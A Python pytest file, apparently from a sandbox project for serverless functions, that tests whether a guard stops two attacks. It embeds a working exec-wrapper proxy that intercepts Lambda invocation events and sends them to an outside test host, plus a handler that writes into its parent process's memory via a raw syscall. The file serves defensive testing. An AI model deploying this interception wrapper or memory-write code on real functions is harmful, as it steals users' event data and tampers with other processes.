"""D05: Something of the function's that stands between the runtime and its API and reads every event.

Knows how it gets there. Does not stop it from reading: it may learn what its own environment may.
"""

from __future__ import annotations

import pytest

from tests.attacks.walled import TRIGGER, Walled, machine

HANDLER = "def handler(event, context): return event['word'][::-1]"
SPY = """
import http.client, http.server, os, socketserver, threading, urllib.request
API = ('127.0.0.1', 9001)
def tell(host, text):
    try: urllib.request.urlopen(f'http://{host}/spy', text, timeout=10).read()
    except OSError: pass
class Between(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'
    def do_GET(self):
        body = self.rfile.read(int(self.headers.get('content-length', 0)))
        above = http.client.HTTPConnection(*API)
        above.request(self.command, self.path, body or None, dict(self.headers))
        reply = above.getresponse(); content = reply.read()
        if self.path.endswith('/next'):
            tell(os.environ['SPY_TELLS'], content)
        self.send_response(reply.status)
        for name, value in reply.getheaders():
            if name.lower() not in ('content-length', 'connection', 'transfer-encoding'):
                self.send_header(name, value)
        self.send_header('content-length', str(len(content))); self.end_headers(); self.wfile.write(content)
    do_POST = do_GET
    def log_message(self, *_): pass
class Server(socketserver.ThreadingMixIn, http.server.HTTPServer): daemon_threads = True
server = Server(('127.0.0.1', 9009), Between)
threading.Thread(target=server.serve_forever, daemon=True).start()
os.environ['AWS_LAMBDA_RUNTIME_API'] = '127.0.0.1:9009'
import subprocess, sys
sys.exit(subprocess.call(sys.argv[1:]))
"""
WRAPPER = """#!/bin/sh
exec "$1" -S /var/task/spy.py "$@"
"""


def lay(walled: Walled, host: str) -> Walled:
    variables = {"AWS_LAMBDA_EXEC_WRAPPER": "/var/task/wrapper", "SPY_TELLS": host}
    walled.lay(HANDLER, variables, spy=SPY)
    (walled.folder / "wrapper").write_text(WRAPPER)
    (walled.folder / "wrapper").chmod(0o755)
    return walled


@pytest.mark.parametrize(("mode", "arrives"), [("off", True), ("audit", True), ("enforce", False)])
def test_what_it_reads_leaves_with_the_guard_off_and_not_enforced(
    walled: Walled, mode: str, arrives: bool
) -> None:
    with machine() as (port, told):
        walled.resolve = {("open.test", 80): ("127.0.0.1", port)}
        ran = lay(walled, "open.test").run({"word": "marker"}, mode, trigger=TRIGGER)
        assert ran.told == "rekram", "the function itself works"
        assert any("marker" in each for each in told) == arrives
        assert ("valve:Visit" in ran.refused) == (mode != "off")


def test_the_twin_tells_whom_the_label_may_reach(walled: Walled) -> None:
    with machine() as (port, told):
        walled.resolve = {("kept.test", 80): ("127.0.0.1", port)}
        ran = lay(walled, "kept.test").run({"word": "marker"}, trigger=TRIGGER)
        assert (ran.told, ran.refused) == ("rekram", set())
        assert any("marker" in each for each in told)


ABOVE = """
import ctypes, os
def handler(event, context):
    libc, told = ctypes.CDLL(None, use_errno=True), {}
    inner, read = os.pipe()
    secret = ctypes.create_string_buffer(b'runtime')
    child = os.fork()
    if not child:
        there = (ctypes.c_void_p * 2)(ctypes.addressof(secret), 7)
        mine = ctypes.create_string_buffer(b'hostile')
        here = (ctypes.c_void_p * 2)(ctypes.addressof(mine), 7)
        numbers = {'x86_64': 311, 'aarch64': 271}
        wide = ctypes.c_long
        number, above = wide(numbers[os.uname().machine]), wide(os.getppid())
        wrote = libc.syscall(number, above, here, wide(1), there, wide(1), wide(0))
        os._exit(wrote == 7)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) or secret.value.decode() == 'hostile'
"""


def test_no_process_writes_into_another_s_memory(walled: Walled) -> None:
    walled.lay(ABOVE)
    assert walled.run({}, "off", walls=False).told
    assert not walled.run({}).told
